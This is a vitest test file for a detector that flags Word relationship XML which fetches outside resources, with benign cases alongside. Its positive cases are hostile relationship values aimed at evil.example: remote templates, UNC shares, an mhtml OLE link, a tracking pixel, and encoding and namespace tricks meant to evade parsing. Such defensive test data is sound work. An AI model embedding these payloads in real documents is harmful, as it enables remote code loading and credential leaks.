import { expect, test } from 'vitest'
import { fetchesOthers } from './word-relations.ts'

const types = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="${types}/${type}" Target="${target}"${mode}/></Relationships>`

test.each([
  ['a template of another machine', relation('attachedTemplate', 'http://evil.example/x.dotm')],
  ['one of a share', relation('attachedTemplate', String.raw`\\evil.example\x.dotm`)],
  ['one of a share by its address', relation('attachedTemplate', 'file://evil.example/x.dotm')],
  ['a share that looks like a disk', relation('attachedTemplate', 'file:///\\\\evil.example/x.dotm')],
  ['an object', relation('oleObject', 'mhtml:http://evil.example/x!x')],
  ['a picture', relation('image', 'https://evil.example/pixel.png')],
  ['a frame', relation('frame', 'https://evil.example/')],
  ['a mode that is spelt', relation('attachedTemplate', 'http://evil.example', " TargetMode = 'Extern&#97;l'")],
  ['a sign within a value', relation('attachedTemplate', 'http://evil.example/?a>b')],
  ['a prefix', relation('attachedTemplate', 'http://evil.example').replaceAll('Relationship ', 'r:Relationship ')],
  ['a mode within a name', relation('attachedTemplate', 'http://evil.example').replace('"r1"', `"r1 TargetMode='Internal' "`)],
  ['another encoding', Buffer.from(relation('attachedTemplate', 'http://evil.example'), 'utf16le').toString()],
  ['entities of its own', `<!DOCTYPE x [<!ENTITY e "External">]>${relation('styles', 'styles.xml')}`],
  ['more than any document has', 'x'.repeat(1_000_001)],
])('%s is fetched', (_, text) => {
  expect(fetchesOthers(text)).toBe(true)
})

test.each([
  ['a link', relation('hyperlink', 'https://www.example.com/me')],
  ['what is in the document', relation('styles', 'styles.xml', '')],
  ['the same, said', relation('image', 'media/image1.png', ' TargetMode="Internal"')],
  ['a template of who wrote it', relation('attachedTemplate', 'file:///C:\\Users\\Ada\\Templates\\Letter.dotx')],
  ['nothing', ''],
])('%s is not', (_, text) => {
  expect(fetchesOthers(text)).toBe(false)
})
